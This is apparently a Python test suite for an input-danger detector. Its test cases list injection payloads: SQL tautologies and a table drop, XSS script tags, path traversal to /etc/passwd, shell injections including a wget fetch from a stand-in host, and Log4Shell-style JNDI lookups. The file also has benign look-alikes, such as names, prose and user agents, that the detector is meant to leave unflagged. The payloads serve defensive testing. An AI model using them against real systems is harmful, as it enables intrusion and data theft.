"""Dangerous structure: attacks are found, benign look-alikes (names, prose, real clients) are not."""

from __future__ import annotations

import json
from importlib import resources

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vigil.behavior.structure import (
    DANGER_NAMES,
    Danger,
    danger_names,
    dangers_from_names,
    dangers_in,
    joined_danger_free,
    may_hold_danger,
    may_hold_danger_ascii,
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("' OR '1'='1", ["sql"], id="quote-tautology"),
        pytest.param('" or ""="', ["sql"], id="double-quote-tautology"),
        pytest.param("1 or sleep(5)#", ["sql"], id="numeric-time-based"),
        pytest.param("1 and 1=1", ["sql"], id="numeric-tautology"),
        pytest.param("admin'--", ["sql"], id="quote-comment"),
        pytest.param("admin'#", ["sql"], id="quote-hash-comment"),
        pytest.param("x' union select 1,2--", ["sql"], id="union-select"),
        pytest.param("1 union select password from users", ["sql"], id="union-without-punctuation"),
        pytest.param("1; drop table users", ["sql"], id="stacked-drop"),
        pytest.param("x'; waitfor delay '0:0:5'--", ["sql"], id="waitfor"),
        pytest.param("' or true--", ["sql"], id="quote-or-true"),
        pytest.param("' OR 1=1 LIMIT 1", ["sql"], id="upper-case"),
        pytest.param("<script>alert(1)</script>", ["markup"], id="script-tag"),
        pytest.param("<svg onload=alert(1)>", ["markup"], id="svg-onload"),
        pytest.param("<img src=x onerror=alert(1)", ["markup"], id="unclosed-img"),
        pytest.param('" onmouseover="alert(1)', ["markup"], id="attribute-breakout"),
        pytest.param("javascript:alert(1)", ["markup"], id="javascript-url"),
        pytest.param("&#60;script&#62;alert(1)&#60;/script&#62;", ["markup"], id="entity-encoded"),
        pytest.param("../../secret", ["traversal"], id="dot-dot-slash"),
        pytest.param("..\\..\\boot", ["traversal"], id="dot-dot-backslash"),
        pytest.param("/etc/crontab", ["file-path"], id="etc"),
        pytest.param("file:///etc/passwd", ["file-path"], id="file-url"),
        pytest.param("c:\\windows\\system32\\cmd.exe", ["file-path"], id="windows-path"),
        pytest.param(";id", ["shell"], id="semicolon-id"),
        pytest.param("; ls -la", ["shell"], id="ls-flag"),
        pytest.param("$(whoami)", ["shell"], id="substitution"),
        pytest.param("`id`", ["shell"], id="backticks"),
        pytest.param("a&&wget http://x/s.sh", ["shell"], id="and-wget"),
        pytest.param("|| ping -n 5 127.0.0.1", ["shell"], id="or-ping"),
        pytest.param("{{7*7}}", ["template"], id="jinja"),
        pytest.param("#{7*7}", ["template"], id="ruby-el"),
        pytest.param("${jndi:ldap://x/a}", ["template", "jndi"], id="jndi"),
        pytest.param("${${lower:j}ndi:ldap://x}", ["template", "jndi"], id="nested-jndi"),
        pytest.param("| cat /etc/passwd", ["file-path", "shell"], id="pipe-cat"),
    ],
)
def test_attacks_show_their_structure(text: str, expected: list[str]) -> None:
    assert danger_names(dangers_in(text)) == expected


@pytest.mark.parametrize(
    "text",
    [
        "O'Brien",
        "Anne-Sophie",
        "García-López",
        "rock 'n' roll",
        "Tom & Jerry; cat food",
        "I'd like 2 or 3 cats",
        'Calle "el Pireo" 93',
        'He said "yes" and left',
        'C/ Hach Mohamed "el Artista", 96',
        "john+tag@example.com",
        "4111 1111 1111 1111",
        "x < y and y > z",
        "50% off; today only!",
        "Q&A session at R&D",
        "The select committee met; they decided",
        "see https://example.com/usr/profile",
        "I need sleep",
        "price: $5 (approx.)",
        "a--b",
        "1 or 2",
        "&#1040;&#1085;&#1085;&#1072;",
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
        '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
        '" Not A;Brand";v="99"',
        'W/"abc123"',
        "$(g4XxP9s#",
        "$Z7XX6j&Ps",
    ],
)
def test_benign_look_alikes_have_no_structure(text: str) -> None:
    assert dangers_in(text) == 0


@pytest.mark.parametrize(
    "agent",
    [
        "curl/8.5.0",
        "Wget/1.21.4",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "okhttp/4.12.0",
        "kube-probe/1.29",
        "Prometheus/2.48.0",
        "ELB-HealthChecker/2.0",
        "Apache-HttpClient/4.5.14 (Java/17.0.9)",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
        "Mozilla/5.0 (Linux; U; Android 4.0.3; ko-kr; LG-L160L Build/IML74K) AppleWebkit/534.30",
    ],
)
def test_clients_and_bots_have_no_structure(agent: str) -> None:
    assert dangers_in(agent) == 0


def test_real_browser_user_agents_have_no_structure() -> None:
    fake_useragent = pytest.importorskip("fake_useragent")
    data = resources.files(fake_useragent).joinpath("data/browsers.jsonl").read_text("utf-8")
    agents = {json.loads(line)["useragent"] for line in data.splitlines() if line.strip()}
    assert len(agents) > 500
    assert [a for a in agents if dangers_in(a)] == []


def test_generated_real_world_values_have_no_structure() -> None:
    faker = pytest.importorskip("faker")
    flagged = []
    for locale in ("en_US", "fr_FR", "de_DE", "es_ES", "pt_BR", "ru_RU", "ja_JP", "ar_AA", "hi_IN"):
        fake = faker.Faker(locale)
        fake.seed_instance(7)
        for _ in range(40):
            for value in (
                fake.name(),
                fake.address(),
                fake.company(),
                fake.text(120),
                fake.email(),
            ):
                if dangers_in(value):
                    flagged.append(value)
    assert flagged == []


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<a " * 100_000, id="many-tag-starts"),
        pytest.param("' or " * 60_000, id="many-boolean-starts"),
        pytest.param("${" * 100_000, id="many-lookup-starts"),
        pytest.param("; " * 100_000, id="many-separators"),
        pytest.param("&#1;" * 50_000, id="many-entities"),
    ],
)
def test_adversarial_repetition_is_scanned_to_the_end(text: str) -> None:
    assert dangers_in(text + "<script>") & Danger.MARKUP


def test_names_round_trip() -> None:
    every = sum(int(d) for d in Danger)
    assert dangers_from_names(danger_names(every)) == every
    assert set(danger_names(every)) == set(DANGER_NAMES.values())
    with pytest.raises(ValueError, match="'sqli'"):
        dangers_from_names(["sqli"])


_DANGEROUS_ALPHABET = st.sampled_from(
    list("abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'\"`();<>|&$\\{}/:#=-.@_*%!\n\t")
) | st.sampled_from(
    [
        " or ", " and ", "union", "select", "sleep(", "information_schema", "SCHEMA", "--",
        "/*", "@@version", "../", "etc/passwd", "win.ini", ".htaccess", "id_rsa", "javascript:",
        "<script>", "onerror=", "${jndi:", "{{", "<%", ";id", "$(", "`", "&&", "||", "&#60;",
    ]
)  # fmt: skip


@settings(max_examples=2000)
@given(st.lists(_DANGEROUS_ALPHABET, max_size=12).map("".join))
def test_the_prefilter_never_clears_a_dangerous_value(text: str) -> None:
    if dangers_in(text):
        assert may_hold_danger(text, set(text))


@pytest.mark.parametrize(
    "text",
    ["SKU-1234", "john.smith@example.com", "Anne Marie", "abcdefghij", "2024-01-31", "tok_Ab12="],
)
def test_the_prefilter_clears_plain_values_cheaply(text: str) -> None:
    assert may_hold_danger(text, set(text)) is (" " in text)


@settings(max_examples=1000)
@given(st.lists(_DANGEROUS_ALPHABET.filter(str.isascii), max_size=12).map("".join))
def test_the_byte_prefilter_equals_the_set_prefilter(text: str) -> None:
    assert may_hold_danger_ascii(text.encode("ascii")) == may_hold_danger(text, set(text))


_ASCII_PIECES = st.sampled_from(
    [
        "union",
        "select",
        " ",
        "sleep",
        "(",
        "'",
        "1",
        "a",
        "_",
        "x",
        "&lt;",
        ";",
        "\t",
        "--",
        "Union",
    ]
)


@settings(max_examples=800)
@given(st.lists(st.lists(_ASCII_PIECES, max_size=8).map("".join), min_size=1, max_size=5))
def test_joined_texts_danger_free_means_each_danger_free(texts: list[str]) -> None:
    if joined_danger_free("\x00".join(texts).encode("ascii")):
        assert [dangers_in(t) for t in texts] == [0] * len(texts)


@pytest.mark.parametrize(
    ("texts", "free"),
    [
        (["red shoes", "a gift for anne"], True),
        (["red shoes", "1 union select 2"], False),
        (["unionselect", "selection"], True),
        (["a", "b;c"], False),
    ],
)
def test_joined_danger_free(texts: list[str], free: bool) -> None:
    assert joined_danger_free("\x00".join(texts).encode("ascii")) is free
